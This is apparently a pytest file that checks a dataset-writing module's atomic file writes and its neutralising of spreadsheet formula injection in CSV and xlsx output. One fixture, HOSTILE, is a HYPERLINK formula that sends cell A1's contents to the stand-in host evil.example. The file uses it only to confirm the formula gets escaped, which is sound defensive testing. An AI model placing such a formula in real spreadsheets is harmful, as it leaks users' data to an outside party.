"""Atomic writes and inert spreadsheet cells (pprr_utils.dataset.writing)."""

from __future__ import annotations

import os
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pprr_utils.dataset.writing import (
    atomic_write,
    inert_frame,
    neutralise_text,
    restore_frame,
    restore_text,
    text_cells_as_strings,
    write_csv,
)

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [HOSTILE, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralise_text(text) == "'" + text
    assert restore_text(neutralise_text(text)) == text


@pytest.mark.parametrize("value", ["Children in care", "'quoted'", "", 12.5, 3, None])
def test_other_values_are_left_alone(value):
    assert neutralise_text(value) == value


@given(st.text())
def test_neutralise_then_restore_is_the_identity(text):
    assert restore_text(neutralise_text(text)) == text
    out = neutralise_text(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_are_inert_and_numbers_stay_numbers(tmp_path: Path):
    frame = pd.DataFrame({"name": [HOSTILE, "Plain"], "value": [-5.0, 2.0]})
    path = write_csv(frame, tmp_path / "card.csv")
    text = path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
    back = restore_frame(pd.read_csv(path))
    assert back["name"].tolist() == [HOSTILE, "Plain"]
    assert back["value"].tolist() == [-5.0, 2.0]
    assert inert_frame(frame)["value"].tolist() == [-5.0, 2.0]


def test_a_failed_write_leaves_the_previous_file_whole(tmp_path: Path):
    path = tmp_path / "card.csv"
    path.write_text("previous\n", encoding="utf-8")

    def boom(fh):
        fh.write("half a fil")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        atomic_write(path, boom)
    assert path.read_text(encoding="utf-8") == "previous\n"
    assert sorted(os.listdir(tmp_path)) == ["card.csv"]  # no temporary file left behind


def test_workbook_text_is_a_string_cell_never_a_formula(tmp_path: Path):
    wb = openpyxl.Workbook()
    wb.active["A1"] = HOSTILE
    assert wb.active["A1"].data_type == "f"  # what openpyxl does by itself
    text_cells_as_strings(wb)
    wb.save(tmp_path / "x.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx").active["A1"]
    assert cell.data_type == "s" and cell.value == HOSTILE
